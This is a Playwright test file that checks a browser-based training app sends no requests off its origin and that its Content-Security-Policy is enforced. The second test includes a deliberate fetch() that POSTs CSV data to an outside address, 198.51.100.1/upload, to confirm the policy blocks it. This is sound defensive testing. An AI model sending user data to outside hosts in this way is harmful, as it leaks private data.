// The app never sends data anywhere: a whole run (the demo trained, a CSV dropped and trained
// on) makes no request off the page's origin, and the built site's Content-Security-Policy
// (scripts/csp.ts) is in force and never violated.
import { expect, test, type Page } from '@playwright/test';
import { CONTENT_SECURITY_POLICY } from '../scripts/csp';
import { expectWebGpu, tinyHash, trainToEnd } from './helpers';

const FIXTURE = 'e2e/fixtures/small-events.csv';

/** URLs that stay in the page: its own data and blobs. */
const LOCAL_SCHEMES = ['data:', 'blob:'];

/** Every CSP violation the page or its worker reports, as text. */
async function watchViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('__cspViolation', (text: string) => violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __cspViolation(t: string): void }).__cspViolation(`${e.effectiveDirective} blocked ${e.blockedURI}`);
    });
  });
  // A worker's violations reach the console only.
  page.on('console', (m) => {
    if (/Content Security Policy|Content-Security-Policy/i.test(m.text())) violations.push(m.text());
  });
  return violations;
}

test('a whole run makes no request off its origin and breaks no rule of its Content-Security-Policy', async ({ page, context }) => {
  const requests: string[] = [];
  context.on('request', (r) => requests.push(r.url()));
  const violations = await watchViolations(page);
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));

  const response = await page.goto(`/${tinyHash()}`);
  // The policy ships in the built page (any static host) and, from our servers, as a header (it then binds the worker too).
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', CONTENT_SECURITY_POLICY);
  expect(response?.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
  await expectWebGpu(page);
  await trainToEnd(page);

  await page.getByTestId('file-input').setInputFiles(FIXTURE);
  await page.getByTestId('confirm-discard').getByRole('button', { name: 'Discard and change' }).click();
  await expect(page.getByTestId('dataset-summary')).toContainText('small-events.csv');
  await trainToEnd(page);

  const origin = new URL(page.url()).origin;
  const away = requests.filter((u) => !LOCAL_SCHEMES.some((s) => u.startsWith(s)) && new URL(u).origin !== origin);
  expect(away).toEqual([]);
  // The requests seen include the worker's script, so a request of the worker would have been seen too.
  expect(requests.some((u) => /trainingWorker-[\w-]+\.js$/.test(u))).toBe(true);
  expect(violations).toEqual([]);
  expect(errors).toEqual([]);
});

test('the policy blocks a request off the origin, and such a block is seen', async ({ page }) => {
  const violations = await watchViolations(page);
  await page.goto(`/${tinyHash()}`);
  const outcome = await page.evaluate(() =>
    fetch('http://198.51.100.1/upload', { method: 'POST', body: 'user,time\n' }).then(
      () => 'sent',
      (e: Error) => `refused: ${e.message}`,
    ),
  );
  expect(outcome).toMatch(/^refused/);
  await expect.poll(() => violations.join('\n')).toContain('connect-src blocked http://198.51.100.1/upload');
});
